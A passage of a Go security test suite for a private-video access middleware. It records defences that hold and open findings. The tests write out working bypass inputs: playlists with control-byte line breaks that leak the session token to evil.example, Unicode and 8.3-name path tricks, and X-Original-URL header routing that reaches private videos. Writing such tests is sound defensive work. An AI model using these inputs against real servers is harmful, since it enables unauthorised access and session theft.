	defer mu.Unlock()
	for _, s := range secrets {
		if strings.Contains(logs.String(), s) {
			t.Fatalf("a credential is in the log:\n%s", logs.String())
		}
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, d := range f.decisions {
		b, _ := json.Marshal(d)
		for _, s := range secrets {
			if strings.Contains(string(b), s) || (d.Err != nil && strings.Contains(d.Err.Error(), s)) {
				t.Fatalf("a decision holds a credential: %s", b)
			}
		}
	}
}

// ---------------------------------------------------------------------------
// Methods, request-target forms, queries, cookies: what held.
// ---------------------------------------------------------------------------

// HOLDS (a): request-target forms and method spellings: lower-case and
// mixed-case methods, CONNECT in authority and origin form, absolute-form
// targets naming any host, OPTIONS *, HTTP/1.0 without Host. No private
// byte, and the unused token stays issued.
func TestAttackRequestFormsHold(t *testing.T) {
	f, reqs := newMediaFixture(t)
	private := privateBytes(t)
	unused := f.issue("v1")
	u, _ := url.Parse(f.srv.URL)
	for _, c := range []struct{ method, target string }{
		{"get", "/vod/v1/mp4/source.mp4"},
		{"gEt", tokenPath("v1", unused, "mp4/source.mp4")},
		{"HEAD", tokenPath("v1", unused, "mp4/source.mp4")},
		{"CONNECT", u.Host},
		{"CONNECT", "/vod/v1/mp4/source.mp4"},
		{"CONNECT", tokenPath("v1", unused, "mp4/source.mp4")},
		{"GET", "http://" + u.Host + "/vod/v1/mp4/source.mp4"},
		{"GET", "http://evil.example/vod/v1/hls/key.bin"},
		{"GET", "HTTP://EVIL.EXAMPLE/VOD/v1/hls/key.bin"},
		{"GET", "https://" + u.Host + "/vod/v1/thumbnail.jpg"},
		{"GET", "http://" + u.Host + "//vod/v1/thumbnail.jpg"},
		{"OPTIONS", "*"},
		{"POST", tokenPath("v1", unused, "mp4/source.mp4")},
		{"PRI", "*"},
	} {
		before := len(reqs.requests())
		status, _, body := rawRequest(t, f.srv.URL, c.method, c.target)
		if name := leaks(body, private); name != "" {
			t.Fatalf("%s %s: %d answered the private %s", c.method, c.target, status, name)
		}
		if n := len(reqs.requests()); n > before && strings.HasPrefix(reqs.requests()[n-1], "GET /vod/v1/") && status == http.StatusOK {
			t.Fatalf("%s %s reached the media handler with a private path: %v", c.method, c.target, reqs.requests()[before:])
		}
	}
	// HTTP/1.0, no Host.
	conn, err := net.Dial("tcp", u.Host)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(conn, "GET /vod/v1/hls/key.bin HTTP/1.0\r\n\r\n")
	all, _ := io.ReadAll(conn)
	conn.Close()
	if name := leaks(all, private); name != "" {
		t.Fatalf("HTTP/1.0 without Host answered the private %s", name)
	}
	if s := f.state(unused); s != store.Issued {
		t.Fatalf("the unused token is %v, want issued", s)
	}
}

// HOLDS: query spellings. Encoded keys are read (and removed) as the
// handler's parser would read them; no spelling makes the handler see the
// token or the session token; a query beyond the cap is malformed.
func TestAttackQuerySpellingsHold(t *testing.T) {
	f := newFixture(t)
	sess := redeemSession(t, f, "v1", f.issue("v1"))
	tok := f.issue("v1")
	for _, q := range []string{
		"%61vh=" + sess,
		"av%68=" + sess + "&x=1",
		"x=1&%61%76%68=" + sess + "&y=2",
		"avh=" + sess + "&avh=" + sess + "&avh=" + sess,
		"avh=garbage&avh=" + sess,
		"%74oken=" + tok + "&avh=" + sess,
	} {
		res := f.get(f.player("p"), "/vod/v1/a.ts?"+q)
		if res.status != http.StatusOK && res.status != http.StatusTemporaryRedirect {
			t.Fatalf("?%s: %d %q", q, res.status, res.reason)
		}
		if res.status == http.StatusOK && (strings.Contains(res.body, sess) || strings.Contains(field(res.body, "query"), tok)) {
			t.Fatalf("?%s: the handler saw a credential: %s", q, res.body)
		}
	}
	for _, q := range []string{
		"token=" + tok + "&%74oken=" + f.issue("v1"), // two tokens that disagree, one encoded
		"x=" + strings.Repeat("a", 5000) + "&avh=" + sess,
	} {
		wantDenied(t, "?"+q[:20], f.get(f.player("p"), "/vod/v1/a.ts?"+q), http.StatusBadRequest, "malformed")
	}
	// "+" and ";" are not the session token's alphabet.
	for _, q := range []string{"avh=" + sess + ";x=1", "avh=+" + sess, "avh=" + sess + "%00"} {
		wantDenied(t, q[len(q)-8:], f.get(f.player("p"), "/vod/v1/a.ts?"+q), http.StatusForbidden, "session-invalid")
	}
}

// HOLDS: cookie games. A session cookie for video A never opens video B,
// however spelled; many cookies are tried at most four times; the session
// cookie never reaches the handler, quoted or padded with spaces.
func TestAttackCookieGamesHold(t *testing.T) {
	var seen []string
	var mu sync.Mutex
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, strings.Join(r.Header.Values("Cookie"), " | "))
		mu.Unlock()
		io.WriteString(w, "ok")
	})
	mw, _ := privatevideo.New([]privatevideo.Key{newKey(t)}, privatevideo.WithInsecureCookies())
	srv := httptest.NewServer(mw.Handler(h))
	defer srv.Close()
	f := &fixture{t: t, mw: mw, srv: srv}
	sess := redeemSession(t, f, "a", mustIssue(t, mw, "a"))
	name := privatevideo.DefaultCookieName
	for _, c := range []string{name + "=" + sess, name + `="` + sess + `"`, " " + name + "=" + sess + " ;x=1"} {
		if status, _, _ := rawRequest(t, srv.URL, "GET", "/vod/b/x.ts", "Cookie", c); status == http.StatusOK {
			t.Fatalf("Cookie %q opened video b", c)
		}
	}
	// The fifth session cookie is not tried: bounded work, refused.
	var many []string
	for range 5 {
		many = append(many, name+"=AAAA")
	}
	if status, _, _ := rawRequest(t, srv.URL, "GET", "/vod/a/x.ts", "Cookie", strings.Join(append(many, name+"="+sess), "; ")); status == http.StatusOK {
		t.Fatal("a session cookie after five others was tried")
	}
	// A megabyte of cookies is refused quickly, never a panic.
	start := time.Now()
	huge := strings.Repeat("x=1; ", 150000)
	rawRequest(t, srv.URL, "GET", "/vod/a/x.ts", "Cookie", huge+name+"="+sess)
	if d := time.Since(start); d > 2*time.Second {
		t.Fatalf("a huge Cookie header took %v", d)
	}
	mu.Lock()
	seen = nil
	mu.Unlock()
	for _, c := range []string{name + `="` + sess + `"`, "site=1; " + name + " =" + sess, name + "=" + sess + "; " + name + "=" + sess} {
		rawRequest(t, srv.URL, "GET", "/vod/a/x.ts", "Cookie", c)
	}
	mu.Lock()
	defer mu.Unlock()
	for _, s := range seen {
		if strings.Contains(s, sess) {
			t.Fatalf("the handler saw the session cookie: %q", s)
		}
	}
}

// HOLDS: odd requests built in process (as an outer router might hand them
// over) never panic the middleware.
func TestAttackOddRequestsNeverPanicHold(t *testing.T) {
	mw, _ := privatevideo.New([]privatevideo.Key{newKey(t)}, privatevideo.WithInsecureCookies(),
		privatevideo.WithCORS("https://p.example"), privatevideo.WithTrustedProxies(netip.MustParsePrefix("0.0.0.0/0")))
	h := mw.Handler(mw.Player(mediaHandler()))
	tok := mustIssue(t, mw, "v1")
	for i, mk := range []func() *http.Request{
		func() *http.Request {
			return &http.Request{Method: "GET", URL: &url.URL{Opaque: "/vod/v1/x"}, Header: http.Header{}}
		},
		func() *http.Request { return &http.Request{Method: "GET", URL: &url.URL{}, Header: http.Header{}} },
		func() *http.Request {
			return &http.Request{Method: "GET", URL: &url.URL{Path: "/vod/v1/x", RawPath: "/elsewhere"}, Header: http.Header{}}
		},
		func() *http.Request {
			return &http.Request{Method: "GET", URL: &url.URL{Path: "/vod", RawPath: "/vo%64"}, Header: http.Header{}}
		},
		func() *http.Request {
			return &http.Request{Method: "GET", URL: &url.URL{Path: "/vod/v1/token/" + tok + "/hls/a.m3u8", RawPath: "/vod/"}, Header: http.Header{}}
		},
		func() *http.Request {
			return &http.Request{Method: "", URL: &url.URL{Path: tokenPath("v1", tok, "hls/a.m3u8")}, Header: nil, RemoteAddr: ""}
		},
		func() *http.Request {
			r := httptest.NewRequest("GET", tokenPath("v1", tok, "hls/a.m3u8"), nil)
			r.RemoteAddr = "@"
			r.Header["X-Forwarded-For"] = []string{"", ",,,", "[::1]:80", "::ffff:1.2.3.4", "fe80::1%eth0"}
			r.Header["Cookie"] = []string{"", ";;;", "=", privatevideo.DefaultCookieName, privatevideo.DefaultCookieName + "=\""}
			r.Header["Origin"] = []string{"https://p.example"}
			return r
		},
		func() *http.Request {
			r := httptest.NewRequest("OPTIONS", "/vod/x", nil)
			r.URL.Path, r.URL.RawPath = "/vod/\x00%zz", "/vod/%00%zz"
			r.Header.Set("Origin", "https://p.example")
			r.Header.Set("Access-Control-Request-Method", "GET")
			return r
		},
		func() *http.Request { return httptest.NewRequest("GET", "/vod/v1token=/x", nil) },
		func() *http.Request { return httptest.NewRequest("GET", "/vod/token=x", nil) },
		func() *http.Request { return httptest.NewRequest("GET", "/vod/v1/token/", nil) },
		func() *http.Request { return httptest.NewRequest("GET", "/vod/v1/token/"+tok, nil) },
		func() *http.Request { return httptest.NewRequest("GET", "/vod/v1/token/"+tok+"/", nil) },
		func() *http.Request { return httptest.NewRequest("GET", "/vod/v1/Token", nil) },
		func() *http.Request { return httptest.NewRequest("POST", "/vod/v1token="+tok+"/session", nil) },
		func() *http.Request { return httptest.NewRequest("GET", "/vod/v1?avh=&avh=&token=", nil) },
	} {
		func() {
			defer func() {
				if p := recover(); p != nil {
					t.Fatalf("request %d panicked: %v", i, p)
				}
			}()
			h.ServeHTTP(httptest.NewRecorder(), mk())
		}()
	}
}

// ---------------------------------------------------------------------------
// Follow-ups: where the fixes meet real handlers.
// ---------------------------------------------------------------------------

// FINDING (availability of one link; d, or any origin that sends 103 Early
// Hints): httputil.ReverseProxy forwards an origin's 1xx by copying its
// header into rw.Header(), calling WriteHeader(1xx) and then clear(h) on
// the whole map. Everything the middleware had put in the header before the
// handler ran goes with it: the session's Set-Cookie (which gated puts back
// after the 1xx) and the CORS headers. The final 200 then carries no
// session although the redemption counts as delivered: in cookie mode the
// viewer's link is spent and the viewer has nothing.
func TestAttackEarlyHintsThroughReverseProxyLoseSessionFinding(t *testing.T) {
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Link", "</x.css>; rel=preload; as=style")
		w.WriteHeader(http.StatusEarlyHints)
		w.Header().Del("Link")
		w.Header().Set("Content-Type", "video/mp2t")
		io.WriteString(w, "segment bytes")
	}))
	defer up.Close()
	target, _ := url.Parse(up.URL)
	proxy := &httputil.ReverseProxy{Rewrite: func(pr *httputil.ProxyRequest) { pr.SetURL(target) }}
	f := newFixture(t, privatevideo.WithCORS("https://player.example"))
	srv := httptest.NewServer(f.mw.Handler(proxy))
	defer srv.Close()
	f.srv = srv
	tok := f.issue("v1")
	b := f.browser("viewer")
	res := f.get(b, tokenPath("v1", tok, "a.ts"), "Origin", "https://player.example")
	if res.status != http.StatusOK || res.body != "segment bytes" {
		t.Fatalf("the redemption: %d %q", res.status, res.body)
	}
	if res.header.Get("Set-Cookie") == "" || res.header.Get("Access-Control-Allow-Origin") == "" {
		t.Fatalf("after the origin's 103 the final 200 lost the middleware's headers: Set-Cookie %q, "+
			"Access-Control-Allow-Origin %q; token now %v, so the viewer's link is spent without a session",
			res.header.Get("Set-Cookie"), res.header.Get("Access-Control-Allow-Origin"), f.state(tok))
	}
	if res := f.get(b, tokenPath("v1", tok, "b.ts")); res.status != http.StatusOK || res.body != "segment bytes" {
		t.Fatalf("the viewer plays on: %d %q", res.status, res.body)
	}
}

// FINDING (functional, d): a gzip answer under a playlist's name that is
// not a playlist (an origin's error page, a mislabelled file) is decoded,
// found not to be a playlist, and then sent decoded while Content-Encoding
// still says gzip and Content-Length still gives the compressed size: the
// client gets a corrupt body. (rewrite.go sniff, called again for every
// decoded chunk because p.sniffed stays false once passing.)
func TestAttackGzipNonPlaylistUnderPlaylistNameFinding(t *testing.T) {
	var zipped bytes.Buffer
	zw := gzipWriter(&zipped)
	zw.Write(bytes.Repeat([]byte("<html>not a playlist</html>\n"), 4000))
	zw.Close()
	resp, out, err := fetchRaw(t, playlistServer(t, zipped.Bytes(), "gzip"))
	enc := resp.Header.Get("Content-Encoding")
	if err != nil || enc == "gzip" && !bytes.Equal(out, zipped.Bytes()) || enc == "" && !bytes.HasPrefix(out, []byte("<html>")) {
		t.Logf("read error: %v", err)
		t.Fatalf("Content-Encoding %q, Content-Length %d, %d bytes starting %q: the body does not match its headers",
			enc, resp.ContentLength, len(out), out[:min(len(out), 16)])
	}
}

func gzipWriter(w io.Writer) *gzip.Writer { return gzip.NewWriter(w) }

// ---------------------------------------------------------------------------
// Second round, against the review fixes (3c3143b).
// ---------------------------------------------------------------------------

// ffmpegLines and pythonLines split a playlist as two more families of
// players do. ffmpeg's HLS demuxer reads lines with ff_get_line, which ends
// a line at "\n", "\r" or a NUL byte, then strips trailing white space.
// Python's str.splitlines (yt-dlp's HLS downloader and extractors,
// streamlink) also ends lines at "\v", "\f", "\x1c", "\x1d", "\x1e",
// U+0085, U+2028 and U+2029, and those tools then strip() each line.
func ffmpegLines(body string) []string {
	return regexp.MustCompile("\r\n|\r|\n|\x00").Split(body, -1)
}

func pythonLines(body string) []string {
	return regexp.MustCompile("\r\n|[\r\n\v\f\x1c\x1d\x1e\u0085\u2028\u2029]").Split(body, -1)
}

// sessionAwayIn is sessionSentAway for a given line splitter: URI lines
// and URI="…" attributes, trimmed, resolved against the playlist's URL.
func sessionAwayIn(t *testing.T, playlistURL, body string, lines func(string) []string) []string {
	t.Helper()
	base, _ := url.Parse(playlistURL)
	var away []string
	for _, l := range lines(body) {
		l = strings.TrimFunc(l, unicode.IsSpace)
		var u string
		switch {
		case l == "":
			continue
		case strings.HasPrefix(l, "#"):
			m := uriAttr.FindStringSubmatch(l)
			if m == nil {
				continue
			}
			u = m[1]
		default:
			u = l
		}
		if !strings.Contains(u, "avh=") {
			continue
		}
		if ref, err := url.Parse(u); err == nil {
			if r := base.ResolveReference(ref); !strings.EqualFold(r.Host, base.Host) {
				away = append(away, r.Host+" <- "+strconvQuote(u))
			}
		}
	}
	return away
}

func strconvQuote(s string) string { b, _ := json.Marshal(s); return string(b) }

// FINDING (d): the fix for lone CR (hasLineBreak) covers CR, NEL, LS and
// PS, but not the other bytes that end a line for common players: a NUL
// for ffmpeg (named in the README: `ffmpeg -i …/manifest.m3u8` "just
// works"), and \v, \f, \x1c–\x1e for Python's splitlines (yt-dlp,
// streamlink). ours() sees one relative URI ("k/\x00https://evil…" has no
// scheme), appends the session token at its end, and the player reads the
// part after the break as an absolute URI on another host. ffmpeg takes a
// URI line as a segment only after #EXTINF, so the NUL goes into a tag
// that follows one, as in the CR case.
func TestAttackPlaylistControlLineBreaksFinding(t *testing.T) {
	body := "#EXTM3U\n#EXT-X-TARGETDURATION:2\n" +
		"#EXTINF:2,\n#EXT-X-KEY:METHOD=AES-128,URI=\"k/\x00https://evil.example/nul-key\"\n" +
		"#EXTINF:2,\nseg/\x0bhttps://evil.example/vt.ts\n" +
		"#EXTINF:2,\nseg/\x0chttps://evil.example/ff.ts\n" +
		"#EXTINF:2,\nseg/\x1chttps://evil.example/fs.ts\n" +
		"#EXTINF:2,\nseg/\x1ehttps://evil.example/rs.ts\n" +
		"#EXTINF:2,\nseg2.ts\n#EXT-X-ENDLIST\n"
	u, out := fetchPlaylist(t, body)
	var away []string
	for _, a := range sessionAwayIn(t, u, out, ffmpegLines) {
		away = append(away, "ffmpeg: "+a)
	}
	for _, a := range sessionAwayIn(t, u, out, pythonLines) {
		away = append(away, "python splitlines: "+a)
	}
	if len(away) > 0 {
		t.Fatalf("players that end lines at NUL or at Python's line breaks send the session token away:\n  %s", strings.Join(away, "\n  "))
	}
}

// nfkcOrigin reads paths as a server that applies Unicode NFKC before
// resolving them (the mappings below are NFKC's, checked with
// String.prototype.normalize): U+2025 "‥" is "..", U+2026 "…" is "...",
// the small roman numerals U+2174 "ⅴ" and U+217E "ⅾ" are "v" and "d", the
// circled letters U+24E5 "ⓥ", U+24DE "ⓞ", U+24D3 "ⓓ" and the
// mathematical bold U+1D42F "𝐯" are "v", "o", "d", "v".
func nfkcOrigin() *origin {
	fold := strings.NewReplacer("\u2025", "..", "\u2026", "...", "\u2174", "v", "\u217e", "d",
		"\u24e5", "v", "\u24de", "o", "\u24d3", "d", "\U0001d42f", "v")
	return &origin{name: "nfkc", resolve: func(raw string) string {
		return path.Clean(fold.Replace(unescapeAll(raw)))
	}}
}

// FINDING (a), low: foldToASCII (layout.go) folds overlong UTF-8, the
// fullwidth block and a few dot and slash look-alikes, but NFKC maps many
// more code points to ASCII, including one ("‥", U+2025) to "..": an
// NFKC-normalising origin reads these as /vod/b/…, and they pass as not
// ours. A list of look-alikes cannot be complete; a path outside the
// prefix that holds non-ASCII could be compared with the prefix treating
// each non-ASCII rune as "any character or a dot segment", or simply be
// refused when it also contains the prefix's letters.
func TestAttackNFKCOriginPrefixFinding(t *testing.T) {
	o := nfkcOrigin()
	_, srv := proxyTo(t, o)
	var leaked []string
	for _, p := range []string{
		"/x/%E2%80%A5/vod/b/mp4/source.mp4",             // ‥
		"/x/y/%E2%80%A5/%E2%80%A5/vod/b/mp4/source.mp4", // ‥/‥
		"/%E2%85%B4od/b/mp4/source.mp4",                 // ⅴod
		"/vo%E2%85%BE/b/mp4/source.mp4",                 // voⅾ
		"/%E2%93%A5%E2%93%9E%E2%93%93/b/mp4/source.mp4", // ⓥⓞⓓ
		"/%F0%9D%90%AFod/b/mp4/source.mp4",              // 𝐯od
	} {
		status, _, body := rawRequest(t, srv.URL, "GET", p)
		if bytes.Contains(body, []byte("video b")) {
			leaked = append(leaked, fmt.Sprintf("%s -> %d %q", p, status, body))
		}
	}
	if len(leaked) > 0 {
		t.Fatalf("no token, and an NFKC-normalising origin serves the private video:\n  %s", strings.Join(leaked, "\n  "))
	}
}

// FINDING (a), with a Windows origin and a layout whose prefix segment is
// not an 8.3 name (longer than 8 characters): NTFS gives such a directory
// a short name, "privatevideos" is also "PRIVAT~1", and Win32 opens a path
// by either. windowsPath models trailing dots and stream names but not
// short names, and "~" is not one of readsAsPrefix's special bytes, so
// "/PRIVAT~1/b/…" passes as not ours to an origin that serves
// /privatevideos/b/… (8.3 names are on by default on Windows system
// volumes, where C:\inetpub lives).
func TestAttackWindowsShortNamePrefixFinding(t *testing.T) {
	o := &origin{name: "windows-8.3", resolve: func(raw string) string {
		p := strings.ToLower(path.Clean(strings.ReplaceAll(unescapeAll(raw), `\`, "/")))
		if rest, ok := strings.CutPrefix(p, "/privat~1"); ok && (rest == "" || rest[0] == '/') {
			p = "/privatevideos" + rest
		}
		return p
	}}
	o.resolve = func(read func(string) string) func(string) string {
		return func(raw string) string { return strings.Replace(read(raw), "/privatevideos/", "/vod/", 1) }
	}(o.resolve) // the origin's videos answer "video b" under any prefix
	up := httptest.NewServer(o)
	defer up.Close()
	target, _ := url.Parse(up.URL)
	proxy := &httputil.ReverseProxy{Rewrite: func(pr *httputil.ProxyRequest) { pr.SetURL(target) }}
	layout := privatevideo.DefaultLayout
	layout.Prefix = "/privatevideos/"
	mw, err := privatevideo.New([]privatevideo.Key{newKey(t)}, privatevideo.WithInsecureCookies(), privatevideo.WithLayout(layout))
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(mw.Handler(proxy))
	defer srv.Close()
	if status, _, body := rawRequest(t, srv.URL, "GET", "/privatevideos/b/mp4/source.mp4"); bytes.Contains(body, []byte("video b")) {
		t.Fatalf("control: the plain private path answered %d %q", status, body)
	}
	var leaked []string
	for _, p := range []string{"/PRIVAT~1/b/mp4/source.mp4", "/privat~1/b/mp4/source.mp4", `/PRIVAT~1\b\mp4\source.mp4`} {
		status, _, body := rawRequest(t, srv.URL, "GET", p)
		if bytes.Contains(body, []byte("video b")) {
			leaked = append(leaked, fmt.Sprintf("%s -> %d %q", p, status, body))
		}
	}
	if len(leaked) > 0 {
		t.Fatalf("no token, and the prefix's 8.3 short name reaches the private video:\n  %s", strings.Join(leaked, "\n  "))
	}
}

// FINDING (a with any path outside the prefix or any public video; c with
// a session for video A), with an origin that routes by a rewrite header:
// IIS's URL Rewrite module passes X-Original-URL, and frameworks that read
// X-Original-URL or X-Rewrite-URL as the request's path (Symfony and Zend
// before CVE-2018-14773, Drupal, apps behind IIS ARR) serve that path
// instead of the request line's. The middleware decides on the request
// line and forwards both headers: "/static/app.js" (row 1, untouched), a
// public video (row 2) and a valid session for A (row 5) all carry
// "X-Original-URL: /vod/b/…" to the origin, which answers video b. The
// handler should never see a header that names another path: drop these
// under the prefix, and refuse not-ours requests whose rewrite headers read
// as under it.
func TestAttackRewriteHeaderNamesAnotherPathFinding(t *testing.T) {
	o := &origin{name: "x-original-url", resolve: func(raw string) string { return path.Clean(unescapeAll(raw)) }}
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		for _, h := range []string{"X-Original-Url", "X-Rewrite-Url"} {
			if v := r.Header.Get(h); v != "" {
				r.RequestURI = v // the framework's idea of the path
			}
		}
		o.ServeHTTP(w, r)
	}))
	defer up.Close()
	target, _ := url.Parse(up.URL)
	proxy := &httputil.ReverseProxy{Rewrite: func(pr *httputil.ProxyRequest) { pr.SetURL(target) }}
	mw, err := privatevideo.New([]privatevideo.Key{newKey(t)}, privatevideo.WithInsecureCookies(),
		privatevideo.WithPublic(func(_ context.Context, id string) bool { return id == "pub" }))
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(mw.Handler(proxy))
	defer srv.Close()
	f := &fixture{t: t, mw: mw, srv: srv}
	sessA := redeemSession(t, f, "a", mustIssue(t, mw, "a"))
	if status, _, body := rawRequest(t, srv.URL, "GET", "/vod/b/mp4/source.mp4"); bytes.Contains(body, []byte("video b")) {
		t.Fatalf("control: %d %q", status, body)
	}
	var leaked []string
	for _, c := range []struct{ target, header string }{
		{"/static/app.js", "X-Original-URL"},
		{"/static/app.js", "X-Rewrite-URL"},
		{"/vod/pub/poster.jpg", "X-Original-URL"},
		{"/vod/a/seg1.ts?avh=" + sessA, "X-Original-URL"},
		{"/vod/a/seg1.ts?avh=" + sessA, "X-Rewrite-URL"},
	} {
		status, _, body := rawRequest(t, srv.URL, "GET", c.target, c.header, "/vod/b/mp4/source.mp4")
		if bytes.Contains(body, []byte("video b")) {
			leaked = append(leaked, fmt.Sprintf("GET %.40s + %s -> %d %q", c.target, c.header, status, body))
		}
	}
	if len(leaked) > 0 {
		t.Fatalf("the origin received a header naming video b and served it:\n  %s", strings.Join(leaked, "\n  "))
	}
}

// FINDING (a), low, with a case-insensitive macOS origin (APFS and HFS+
// fold case by Unicode rules, so "ſ" U+017F is "s" and "K" U+212A is "k")
// and a layout prefix holding an "s" or a "k": "/videoſ/b/…" opens
// /videos/b/…. underFold compares byte slices of the path with the prefix,
// so the two-byte "ſ" never lines up; foldToASCII does not know it either.
func TestAttackUnicodeCaseFoldingPrefixFinding(t *testing.T) {
	fold := strings.NewReplacer("\u017f", "s", "\u212a", "k")
	o := &origin{name: "apfs", resolve: func(raw string) string {
		p := strings.ToLower(fold.Replace(path.Clean(unescapeAll(raw))))
		return strings.Replace(p, "/videos/", "/vod/", 1)
	}}
	up := httptest.NewServer(o)
	defer up.Close()
	target, _ := url.Parse(up.URL)
	proxy := &httputil.ReverseProxy{Rewrite: func(pr *httputil.ProxyRequest) { pr.SetURL(target) }}
	layout := privatevideo.DefaultLayout
	layout.Prefix = "/videos/"
	mw, err := privatevideo.New([]privatevideo.Key{newKey(t)}, privatevideo.WithInsecureCookies(), privatevideo.WithLayout(layout))
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(mw.Handler(proxy))
	defer srv.Close()
	var leaked []string
	for _, p := range []string{"/video%C5%BF/b/mp4/source.mp4", "/VIDEO%C5%BF/b/mp4/source.mp4"} {
		status, _, body := rawRequest(t, srv.URL, "GET", p)
		if bytes.Contains(body, []byte("video b")) {
			leaked = append(leaked, fmt.Sprintf("%s -> %d %q", p, status, body))
		}
	}
	if len(leaked) > 0 {
		t.Fatalf("no token, and a Unicode case-folding origin serves the private video:\n  %s", strings.Join(leaked, "\n  "))
	}
}
